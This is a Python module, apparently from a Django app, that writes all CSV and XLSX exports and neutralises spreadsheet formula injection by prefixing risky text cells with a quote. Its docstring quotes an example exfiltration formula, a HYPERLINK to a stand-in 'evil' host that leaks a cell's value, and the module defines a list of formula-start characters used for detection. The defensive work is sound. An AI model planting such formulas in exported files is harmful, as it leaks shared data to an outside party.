"""The one writer for every CSV and XLSX file the product hands out.

Rule (formula injection, OWASP "CSV Injection"): a spreadsheet program runs a cell that starts with
``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab or carriage return can hide such a
start. A volunteer who registers as ``=HYPERLINK("http://evil/?"&A1)`` would otherwise plant a live
formula in the file a coordinator shares with a partner ormas. :func:`safe_cell` neutralises such a
text cell by prefixing a single quote, so it is shown as text. The full-width forms (``＝ ＋ － ＠``),
which some spreadsheet locales convert to their ASCII form, are treated the same way.

Numbers stay numbers: ``int``/``float``/``Decimal`` values are written as they are, and so is a text
cell that is just a number (``-5``, ``+62812…``, ``1.5e3``): it cannot hold a formula.

Every exporter writes through :func:`csv_lines`, :func:`write_csv`, :func:`csv_bytes` or
:func:`xlsx_bytes`; ``tests/core/test_spreadsheet.py`` fails if code under ``src/`` calls
``csv.writer``, ``Workbook(`` or a similar writer anywhere else.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable, Iterator
from typing import IO, Any

#: Leading characters that make a spreadsheet program read a text cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as it may be written to a CSV/XLSX cell: formula-like text gets a leading ``'``.

    ``None`` becomes an empty cell; numbers, booleans and dates are kept; any other value is written
    as its text, neutralised when it starts with one of :data:`FORMULA_STARTS` and is not a plain
    number.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal | datetime.date | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` applied to every cell of ``row``."""
    return [safe_cell(v) for v in row]


class _Line:
    """A file-like sink that hands back what ``csv.writer`` writes (for streaming responses)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Each row as one CSV line (with its line ending), neutralised; lazy, for streaming responses."""
    writer = csv.writer(_Line())
    for row in rows:
        yield writer.writerow(safe_row(row))


def write_csv(stream: IO[str], rows: Iterable[Iterable[Any]]) -> None:
    """Write ``rows`` as CSV to a text stream (an open file, ``io.StringIO``, an ``HttpResponse``)."""
    for line in csv_lines(rows):
        stream.write(line)


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """``rows`` as UTF-8 CSV bytes (for files inside an archive)."""
    buf = io.StringIO()
    write_csv(buf, rows)
    return buf.getvalue().encode()


def xlsx_bytes(rows: Iterable[Iterable[Any]], sheet_title: str = "Data") -> bytes:
    """``rows`` as an XLSX workbook with one sheet; text cells are stored as text, never formulas."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet_title[:31] or "Data")
    for row in rows:
        ws.append([_xlsx_value(v) for v in safe_row(row)])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _xlsx_value(value: Any) -> Any:
    """What XLSX can hold: control characters it forbids are dropped, an aware datetime is ISO text."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, datetime.datetime | datetime.time) and value.tzinfo is not None:
        return value.isoformat()
    return value


def csv_response(filename: str, rows: Iterable[Iterable[Any]]):
    """A streaming download of ``rows`` as ``filename`` (``text/csv``, UTF-8)."""
    from django.http import StreamingHttpResponse

    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(filename: str, rows: Iterable[Iterable[Any]], sheet_title: str = "Data"):
    """A download of ``rows`` as an XLSX workbook named ``filename``."""
    from django.http import HttpResponse

    response = HttpResponse(xlsx_bytes(rows, sheet_title), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
